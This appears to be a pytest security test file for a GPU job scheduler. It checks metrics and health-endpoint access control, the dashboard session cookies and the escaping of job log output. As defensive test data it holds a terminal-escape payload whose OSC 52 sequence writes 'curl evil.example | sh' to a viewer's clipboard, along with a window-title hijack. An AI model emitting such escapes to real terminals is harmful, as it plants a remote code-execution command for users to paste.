"""What a hostile job (or whoever holds its output) reaches through the control plane's own surfaces, on a real
`gpufleet up` run as root (jobs run as their queue's user):

- `/metrics` names every team's jobs: a job reads it neither without a token nor with its own job token; a
  metrics or admin token does, and a real Prometheus scrapes it with a metrics token from a file;
- `/healthz` without a token says up, and nothing of the isolation set-up, the jobs' home or versions;
- the dashboard's cookie is a session id, not the API token: it opens no API, and dies at sign-out and when
  its token is revoked;
- a job's output that holds terminal escapes (a window title, an OSC 52 clipboard write) reaches a terminal
  that runs `gpufleet logs` escaped, not raw.
"""

from __future__ import annotations

import base64
import json
import os
import pty
import re
import subprocess
import sys
from collections.abc import Iterator
from http.cookies import SimpleCookie
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.kit.jobusers import JOB_PYTHON, users_created_here
from tests.server.live import Live, start
from tests.telemetry.prom import get_json, prometheus_server, query, require, wait_for

pytestmark = pytest.mark.slow

# The attacker: a job that asks the control plane's unauthenticated surfaces, with no token and with the
# job token the executor gave it, and prints what it got.
PROBE = r"""
import json, os, urllib.error, urllib.request
base = os.environ["GPUFLEET_REPORT_URL"].split("/v1/")[0]
job_token = os.environ["GPUFLEET_REPORT_TOKEN"]

def get(path, token=None):
    headers = {"Authorization": "Bearer " + token} if token else {}
    try:
        with urllib.request.urlopen(urllib.request.Request(base + path, headers=headers), timeout=10) as answer:
            return [answer.status, answer.read().decode(errors="replace")]
    except urllib.error.HTTPError as error:
        return [error.code, error.read().decode(errors="replace")]
    except OSError as error:
        return [None, repr(error)]

found = {
    "metrics": get("/metrics"),
    "metrics_job_token": get("/metrics", job_token),
    "healthz": get("/healthz"),
    "healthz_job_token": get("/healthz", job_token),
    "job_token": job_token,
}
print("PROBE " + json.dumps(found), flush=True)
"""

TITLE = "\x1b]0;owned-title\x07"
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh\n").decode() + "\x07"
# Output that tries to set the viewer's window title and write their clipboard, around plain text.
WRITTEN = "before" + TITLE + "middle" + CLIPBOARD + "after\n\ttabbed\nplain UTF-8: h\u00e9llo \u2713\n"
NOISY = f"import sys\nsys.stdout.write({WRITTEN!r})\n"


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    with users_created_here():
        server = start(tmp_path_factory.mktemp("surfaces"), "--sample-interval", "0.2")
        try:
            yield server
        finally:
            server.server.stop()


def run_job(live: Live, code: str, **spec: Any) -> tuple[str, str]:
    """Run a Python program as a job to its end; its id and its output."""
    with live.http() as client:
        response = client.post("/v1/jobs", json={"command": [JOB_PYTHON, "-c", code], **spec})
        assert response.status_code == 201, response.text
        job = str(response.json()["id"])
        done = live.wait_state(client, job, "succeeded", "failed", timeout_s=60)
        text = str(client.get(f"/v1/jobs/{job}/logs").json()["text"])
    assert done["state"] == "succeeded", text
    return job, text


@pytest.fixture(scope="module")
def probe(live: Live) -> dict[str, Any]:
    """What a job found, while another job (its id must not leak) runs beside it."""
    with live.http() as client:
        other = live.submit(client, "sleep", "60", name="other-teams-job", gpus=1)
        live.wait_state(client, other, "running")
        try:
            _job, text = run_job(live, PROBE, gpus=1)
        finally:
            client.post(f"/v1/jobs/{other}/cancel", params={"force": "true"})
    line = next(line for line in text.splitlines() if line.startswith("PROBE "))
    found: dict[str, Any] = json.loads(line.removeprefix("PROBE "))
    found["other"] = other
    return found


# ---------------------------------------------------------------------------------------------- /metrics


def test_a_job_cannot_read_metrics_without_a_token(probe: dict[str, Any]) -> None:
    status, body = probe["metrics"]
    assert status == 401, body
    assert probe["other"] not in body
    assert "DCGM_FI_DEV" not in body


def test_a_job_cannot_read_metrics_with_its_own_job_token(live: Live, probe: dict[str, Any]) -> None:
    status, body = probe["metrics_job_token"]
    assert status in (401, 403), body
    assert probe["other"] not in body
    # The same token from outside the job: still no metrics (it is a report token, not an API token).
    outside = httpx.get(f"{live.url}/metrics", headers={"Authorization": f"Bearer {probe['job_token']}"})
    assert outside.status_code in (401, 403)


def test_team_tokens_are_refused_and_metrics_and_admin_tokens_read_metrics(live: Live) -> None:
    with live.http() as client:
        metrics = client.post("/v1/tokens", json={"name": "scrape", "role": "metrics"}).json()["secret"]
        team = client.post("/v1/tokens", json={"name": "a-team", "role": "team", "queue": "default"}).json()["secret"]
        assert client.get("/metrics").status_code == 200  # admin
    assert httpx.get(f"{live.url}/metrics", headers={"Authorization": f"Bearer {metrics}"}).status_code == 200
    assert httpx.get(f"{live.url}/metrics", headers={"Authorization": f"Bearer {team}"}).status_code == 403
    assert httpx.get(f"{live.url}/v1/jobs", headers={"Authorization": f"Bearer {metrics}"}).status_code == 403


def test_a_real_prometheus_scrapes_with_the_metrics_token_and_not_without(live: Live, tmp_path: Path) -> None:
    require("prometheus")
    with live.http() as client:
        secret = client.post("/v1/tokens", json={"name": "prometheus", "role": "metrics"}).json()["secret"]
    target = f"127.0.0.1:{live.server.port}"
    with prometheus_server(target, tmp_path, scrape_interval_s=0.5, bearer=secret, anonymous_too=True) as prom:
        wait_for(
            lambda: [s for s in query(prom, 'up{job="gpufleet"}') if s["value"][1] == "1"],
            30,
            "Prometheus to scrape gpufleet with the token",
        )
        assert wait_for(lambda: query(prom, "DCGM_FI_DEV_GPU_UTIL"), 30, "the GPU series")

        def anonymous_refused() -> dict[str, Any] | None:
            targets = get_json(prom + "/api/v1/targets")["data"]["activeTargets"]
            found = [t for t in targets if t["labels"]["job"] == "anonymous" and t["health"] == "down"]
            return found[0] if found else None

        assert "401" in str(wait_for(anonymous_refused, 30, "the scrape without a token to be refused")["lastError"])


# ----------------------------------------------------------------------------------------------- /healthz


def test_healthz_tells_a_job_only_that_the_server_is_up(live: Live, probe: dict[str, Any]) -> None:
    status, body = probe["healthz"]
    assert status == 200
    assert json.loads(body) == {"status": "ok"}
    assert httpx.get(f"{live.url}/healthz").json() == {"status": "ok"}
    status, body = probe["healthz_job_token"]
    assert status == 401  # a job token is no API token here either
    assert "isolation" not in body
    assert str(live.root) not in body
    assert "gpufleet-" not in body


def test_healthz_keeps_its_detail_for_an_admin(live: Live) -> None:
    with live.http() as client:
        health = client.get("/healthz").json()
        team = client.post("/v1/tokens", json={"name": "b-team", "role": "team", "queue": "default"}).json()["secret"]
    assert health["status"] == "ok"
    assert health["isolation"]["users"]
    assert health["metrics"] == "token"
    as_team = httpx.get(f"{live.url}/healthz", headers={"Authorization": f"Bearer {team}"}).json()
    assert as_team == {"status": "ok"}


# ------------------------------------------------------------------------------------------ dashboard cookie


def sign_in(live: Live, client: httpx.Client, secret: str) -> str:
    """Sign in through the dashboard's form; returns the session cookie's value."""
    form = client.get("/signin")
    nonce = re.search(r'name="nonce" value="([^"]+)"', form.text)
    assert nonce is not None
    answer = client.post(
        "/signin", data={"token": secret, "nonce": nonce.group(1), "next": "/jobs"}, headers={"Origin": live.url}
    )
    assert answer.status_code == 303, answer.text
    header = next(h for h in answer.headers.get_list("set-cookie") if h.startswith("gpufleet_session="))
    assert "httponly" in header.lower()
    assert "samesite=strict" in header.lower()
    cookie = SimpleCookie()
    cookie.load(header)
    return cookie["gpufleet_session"].value


def test_the_dashboard_cookie_is_a_session_id_that_opens_no_api(live: Live) -> None:
    with live.http() as admin:
        secret = admin.post("/v1/tokens", json={"name": "browser-1", "role": "admin"}).json()["secret"]
    with httpx.Client(base_url=live.url, timeout=30) as browser:
        session = sign_in(live, browser, secret)
        assert session != secret
        assert secret not in session
        assert not session.startswith("gf_")
        assert browser.get("/jobs").status_code == 200
        for path in ("/v1/jobs", "/v1/tokens", "/metrics"):
            stolen = httpx.get(live.url + path, headers={"Authorization": f"Bearer {session}"})
            assert stolen.status_code == 401, path
        # A cookie holding the token itself (what the dashboard used to keep) is no session.
        forged = httpx.get(live.url + "/jobs", cookies={"gpufleet_session": secret})
        assert forged.status_code == 303


def test_sign_out_and_revoking_the_token_end_the_session(live: Live) -> None:
    with live.http() as admin:
        made = admin.post("/v1/tokens", json={"name": "browser-2", "role": "admin"}).json()
    with httpx.Client(base_url=live.url, timeout=30) as browser:
        first = sign_in(live, browser, made["secret"])
        page = browser.get("/jobs").text
        csrf = re.search(r'name="csrf" value="([^"]+)"', page)
        assert csrf is not None
        out = browser.post("/signout", data={"csrf": csrf.group(1)}, headers={"Origin": live.url})
        assert out.status_code == 303
        replayed = httpx.get(live.url + "/jobs", cookies={"gpufleet_session": first})
        assert replayed.status_code == 303
        assert "/signin" in replayed.headers["location"]

        browser.cookies.clear()
        second = sign_in(live, browser, made["secret"])
        assert browser.get("/jobs").status_code == 200
        with live.http() as admin:
            assert admin.delete(f"/v1/tokens/{made['id']}").status_code == 200
        revoked = httpx.get(live.url + "/jobs", cookies={"gpufleet_session": second})
        assert revoked.status_code == 303
        assert "why=revoked" in revoked.headers["location"]


# ---------------------------------------------------------------------------------------- job output


def on_a_terminal(live: Live, *args: str) -> bytes:
    """What `gpufleet ARGS` writes to a terminal (a pseudo-terminal's other end)."""
    env = {**os.environ, "GPUFLEET_URL": live.url, "GPUFLEET_TOKEN": live.server.token, "COLUMNS": "200"}
    master, slave = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "gpufleet", *args], stdin=slave, stdout=slave, stderr=subprocess.PIPE, env=env
    )
    os.close(slave)
    chunks = []
    try:
        while True:
            try:
                data = os.read(master, 65536)
            except OSError:  # EIO: the command ended and closed its end
                break
            if not data:
                break
            chunks.append(data)
        _out, err = process.communicate(timeout=60)
    finally:
        os.close(master)
    assert process.returncode == 0, err.decode(errors="replace")
    return b"".join(chunks)


@pytest.fixture(scope="module")
def noisy_job(live: Live) -> str:
    job, text = run_job(live, NOISY)
    assert TITLE in text  # the log keeps what the job wrote
    assert CLIPBOARD in text
    return job


@pytest.mark.parametrize("follow", [False, True], ids=["logs", "logs-follow"])
def test_escape_sequences_in_a_jobs_output_reach_a_terminal_escaped(live: Live, noisy_job: str, follow: bool) -> None:
    shown = on_a_terminal(live, "logs", noisy_job, *(["-f"] if follow else []))
    assert b"\x1b" not in shown
    assert b"\x07" not in shown
    text = shown.decode()
    assert "before\\x1b]0;owned-title\\x07middle\\x1b]52;c;" in text
    assert "\ttabbed" in text  # tabs and lines stay what they are (the terminal turns \n into \r\n)
    assert "plain UTF-8: h\u00e9llo \u2713" in text


def test_raw_passes_the_output_through_and_a_pipe_gets_it_as_written(live: Live, noisy_job: str) -> None:
    assert (TITLE + "middle" + CLIPBOARD).encode() in on_a_terminal(live, "logs", noisy_job, "--raw")
    env = {**os.environ, "GPUFLEET_URL": live.url, "GPUFLEET_TOKEN": live.server.token}
    piped = subprocess.run(
        [sys.executable, "-m", "gpufleet", "logs", noisy_job], capture_output=True, env=env, timeout=60, check=True
    )
    assert (TITLE + "middle" + CLIPBOARD).encode() in piped.stdout  # `> file` keeps the bytes, as Slurm's files do
